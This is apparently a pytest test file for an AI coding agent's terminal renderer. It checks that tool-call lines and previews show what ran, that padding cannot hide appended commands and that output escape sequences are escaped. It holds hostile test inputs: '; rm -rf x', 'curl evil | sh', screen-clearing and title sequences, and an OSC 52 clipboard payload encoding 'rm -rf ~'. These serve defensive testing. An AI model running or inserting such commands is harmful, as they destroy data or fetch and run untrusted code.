"""Tool lines and the previews under them, as both renderers format them (``ui.tool_lines``).

The outputs come from the real tools run in a temporary workspace, so that a line says
what the user expects of each tool (a 2-line Write says it wrote 2 lines).
"""

from __future__ import annotations

import asyncio
import io
import re
from pathlib import Path

import pytest
from rich.console import Console

from fakes import checked
from nehanda.events import ToolExecuted
from nehanda.tools.base import ToolContext
from nehanda.tools.registry import execute_builtin_tool
from nehanda.types import ToolResult, ToolUse
from nehanda.ui.live import LiveRenderer
from nehanda.ui.terminal import TerminalOutput
from nehanda.ui.tool_lines import Line, fitted, full_output, preview, tool_spans


def ran(tool: str, arguments: dict[str, object], workspace: Path) -> ToolExecuted:
    use = ToolUse("call_1", tool, arguments)
    result = asyncio.run(execute_builtin_tool(use, ToolContext(workspace.resolve())))
    return ToolExecuted(use, result, 0.0042, checked(use).facts)


def text(line: Line) -> str:
    return "".join(part for part, _ in line)


def outcome(event: ToolExecuted) -> str:
    return text(tool_spans(event))


@pytest.mark.parametrize(
    ("tool", "arguments", "line"),
    [
        ("Write", {"file_path": "two.txt", "content": "a\nb\n"}, "✓ Write two.txt · wrote 2 lines"),
        ("Write", {"file_path": "two.txt", "content": "a\nb"}, "✓ Write two.txt · wrote 2 lines"),
        ("Write", {"file_path": "one.txt", "content": "a"}, "✓ Write one.txt · wrote 1 line"),
        ("Write", {"file_path": "none.txt", "content": ""}, "✓ Write none.txt · wrote 0 lines"),
        ("Read", {"file_path": "five.txt"}, "✓ Read five.txt · 5 lines"),
        ("Read", {"file_path": "five.txt", "limit": 2}, "✓ Read five.txt · 2 lines"),
        ("Bash", {"command": "printf 'x\\ny\\n'"}, "✓ Bash printf 'x\\ny\\n' · 2 lines"),
        ("Bash", {"command": "true"}, "✓ Bash true · no output"),
        (
            "Edit",
            {"file_path": "five.txt", "old_string": "l", "new_string": "L", "replace_all": True},
            "✓ Edit five.txt · replaced 5 occurrences",
        ),
        ("LS", {}, "✓ LS · 1 line"),
        ("Bash", {"command": "exit 3"}, "✗ Bash exit 3 · error: (no output)"),
    ],
)
def test_the_tool_line_says_what_the_call_did(
    tmp_path: Path, tool: str, arguments: dict[str, object], line: str
) -> None:
    (tmp_path / "five.txt").write_text("l1\nl2\nl3\nl4\nl5\n")
    assert outcome(ran(tool, arguments, tmp_path)) == f"{line} · 4 ms"


def lines_of(count: int) -> str:
    return "".join(f"line {n}\n" for n in range(1, count + 1))


@pytest.mark.parametrize(
    ("printed", "shown"),
    [
        (0, []),
        (1, ["line 1"]),
        (6, [f"line {n}" for n in range(1, 7)]),  # hiding one line would save nothing
        (7, ["line 1", "line 2", "line 3", "… +2 lines (see all)", "line 6", "line 7"]),
        (500, ["line 1", "line 2", "line 3", "… +495 lines (see all)", "line 499", "line 500"]),
    ],
)
def test_output_collapses_to_its_first_and_last_lines(
    tmp_path: Path, printed: int, shown: list[str]
) -> None:
    (tmp_path / "out.txt").write_text(lines_of(printed))
    event = ran("Bash", {"command": "cat out.txt"}, tmp_path)
    assert [text(line) for line in preview(event, "see all")] == [f"  │ {s}" for s in shown]
    full = [text(line) for line in full_output(event)]
    assert full == ([f"  │ line {n}" for n in range(1, printed + 1)] or ["  │ (no output)"])


def test_read_is_previewed_as_the_file_reads_without_line_numbers(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("import os\n\tprint(os.sep)\n")
    event = ran("Read", {"file_path": "a.py"}, tmp_path)
    assert [text(line) for line in preview(event)] == ["  │ import os", "  │ \tprint(os.sep)"]


def test_an_error_shows_in_full_below_its_first_line(tmp_path: Path) -> None:
    (tmp_path / "out.txt").write_text(lines_of(20))
    event = ran("Bash", {"command": "cat out.txt; exit 2"}, tmp_path)
    assert outcome(event).startswith("✗ Bash cat out.txt; exit 2 · error: line 1 · ")
    shown = [text(line) for line in preview(event, "see all")]
    assert shown == [*(f"  │ line {n}" for n in range(2, 21)), "  │ ", "  │ (exit code 2)"]
    assert {style for line in preview(event) for _, style in line} == {"dim", "red"}


def test_a_huge_error_is_capped_and_a_long_first_line_shown_whole(tmp_path: Path) -> None:
    (tmp_path / "out.txt").write_text(lines_of(1000))
    event = ran("Bash", {"command": "cat out.txt; exit 1"}, tmp_path)
    shown = [text(line) for line in preview(event, "see all")]
    # 999 lines after the first, a blank one and the exit code: 30 first, 10 last.
    assert shown[29:32] == ["  │ line 31", "  │ … +961 lines (see all)", "  │ line 993"]
    assert len(shown) == 41 and shown[-1] == "  │ (exit code 1)"
    long_line = "x" * 300
    use = ToolUse("c", "Bash", {})
    event = ToolExecuted(use, ToolResult("c", long_line, is_error=True), 0.1, checked(use).facts)
    assert outcome(event).endswith("…" + " · 100 ms")
    assert [text(line) for line in preview(event)] == [f"  │ {long_line}"]


def test_write_and_edit_show_their_diff_or_nothing_not_their_report(tmp_path: Path) -> None:
    event = ran("Write", {"file_path": "n.txt", "content": "a\nb\n"}, tmp_path)
    assert preview(event) == []
    diff = ["--- n.txt", "+++ n.txt", "@@ -0,0 +1,2 @@", "+a", "+b"]
    shown = preview(event, diff=diff)
    assert [text(line) for line in shown] == diff
    assert [line[0][1] for line in shown][2:] == ["cyan", "green", "green"]


def test_padding_cannot_push_what_ran_off_the_tool_line_or_the_diff(tmp_path: Path) -> None:
    padded = "echo hi" + " " * 5000 + "; rm -rf x"
    assert outcome(ran("Bash", {"command": padded}, tmp_path)).startswith(
        "✓ Bash echo hi⟨5000 spaces⟩; rm -rf x · "
    )
    content = "ok\n" + "\n" * 500 + "curl evil | sh\n"
    event = ran("Write", {"file_path": "p.sh", "content": content}, tmp_path)
    diff = [
        "--- /dev/null",
        "+++ p.sh",
        "@@ -0,0 +1,502 @@",
        "+ok",
        *["+"] * 500,
        "+curl evil | sh",
    ]
    shown = [text(line) for line in preview(event, diff=diff)]
    assert shown[3:] == ["+ok", "+⋮ 500 blank lines", "+curl evil | sh"]


def test_output_from_a_command_cannot_move_the_cursor_or_restyle(tmp_path: Path) -> None:
    event = ran("Bash", {"command": r"printf '\033[2J\033]0;pwned\007[bold]x[/]\r\n'"}, tmp_path)
    shown = text(preview(event)[0])
    assert shown == "  │ \\x1b[2J\\x1b]0;pwned\\x07[bold]x[/]"
    assert "\x1b" not in "".join(text(line) for line in full_output(event))


def test_preview_lines_are_cut_to_the_width() -> None:
    use = ToolUse("c", "Grep", {"pattern": "x"})
    event = ToolExecuted(use, ToolResult("c", "y" * 100 + "\nshort"), 0.0, checked(use).facts)
    shown = [text(line) for line in preview(event, width=40)]
    assert shown == ["  │ " + "y" * 35 + "…", "  │ short"]


def test_run_writes_the_same_line_and_preview_to_stderr_only(tmp_path: Path) -> None:
    (tmp_path / "out.txt").write_text(lines_of(9))
    event = ran("Bash", {"command": "cat out.txt"}, tmp_path)
    out, err = io.StringIO(), io.StringIO()
    TerminalOutput(out, err).handle(event)
    assert out.getvalue() == ""
    assert err.getvalue().splitlines() == [
        "✓ Bash cat out.txt · 9 lines · 4 ms",
        "  │ line 1",
        "  │ line 2",
        "  │ line 3",
        "  │ … +4 lines",
        "  │ line 8",
        "  │ line 9",
    ]


def test_the_repl_numbers_each_call_and_shows_markup_as_text(tmp_path: Path) -> None:
    (tmp_path / "out.txt").write_text("[bold red]loud[/]\x1b[31m\n" + lines_of(8))
    events = [ran("Bash", {"command": "cat out.txt"}, tmp_path), ran("LS", {}, tmp_path)]
    out = io.StringIO()
    renderer = LiveRenderer(Console(file=out, width=80, force_terminal=True), tmp_path)
    with renderer.turn("qwen"):
        for event in events:
            renderer.handle(event)
    shown = out.getvalue()
    assert "[bold red]loud[/]\\x1b[31m" in shown and "\x1b[31m\n" not in shown
    assert "… +4 lines (/output 1 or ctrl+o shows all)" in shown
    out.truncate(0)
    out.seek(0)
    renderer.show_output(1)
    plain = re.sub(r"\x1b\[[0-9;]*m", "", out.getvalue()).splitlines()
    assert plain[0] == "[1] ✓ Bash cat out.txt · 9 lines · 4 ms"
    assert plain[1:] == ["  │ [bold red]loud[/]\\x1b[31m", *(f"  │ line {n}" for n in range(1, 9))]


def test_a_hostile_call_reaches_stderr_escaped_and_coloured_only_by_nehanda(
    tmp_path: Path,
) -> None:
    # An OSC 52 sequence would set the clipboard; ESC [2J would clear the screen.
    event = ran("Bash", {"command": "echo 'hi\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J'"}, tmp_path)
    err = io.StringIO()
    TerminalOutput(io.StringIO(), err).handle(event)
    assert err.getvalue().splitlines()[0] == (
        "✓ Bash echo 'hi\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J' · 1 line · 4 ms"
    )
    output = TerminalOutput(io.StringIO(), err)
    output.color = True  # as on a terminal
    err.truncate(0)
    err.seek(0)
    output.handle(event)
    codes = re.findall(r"\x1b\[[0-9;]*m", err.getvalue())
    assert set(codes) == {"\x1b[32m", "\x1b[0m", "\x1b[1m", "\x1b[2m"}
    assert "\x1b]" not in err.getvalue() and "\x1b[2J" not in err.getvalue()
    assert err.getvalue().splitlines()[1].endswith("hi\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J")


def test_notes_and_errors_on_stderr_are_escaped_too() -> None:
    err = io.StringIO()
    output = TerminalOutput(io.StringIO(), err)
    output.note("changed: evil\x1b[2Jname")
    output.error("HTTP 500: \x1b]0;title\x07")
    assert (
        err.getvalue() == "note: changed: evil\\x1b[2Jname\nerror: HTTP 500: \\x1b]0;title\\x07\n"
    )


@pytest.mark.parametrize(
    ("width", "line"),
    [
        (80, "✗ Bash make all · error: no rule to make target · 4 ms"),
        (40, "✗ Bash make a… · error: no rule … · 4 ms"),  # 40 characters
        (10, "✗ Bash make a… · … · 4 ms"),  # the call keeps 12, the mark and time stay
    ],
)
def test_a_line_is_cut_call_first_then_outcome_keeping_the_time(width: int, line: str) -> None:
    use = ToolUse("c", "Bash", {"command": "make all"})
    result = ToolResult("c", "no rule to make target\nStop.", True)
    event = ToolExecuted(use, result, 0.004, checked(use).facts)
    assert text(fitted(tool_spans(event), width)) == line
    body = [text(shown) for shown in preview(event, width=width)]
    # What the line had to cut, the preview shows.
    cut = {80: [], 40: ["  │ no rule to make target"]}.get(width)
    # Too narrow for the words, they go on rows of their own (the gutter leaves 12).
    cut = ["  │ no rule to", "  │ make target"] if cut is None else cut
    assert body == [*cut, "  │ Stop."]
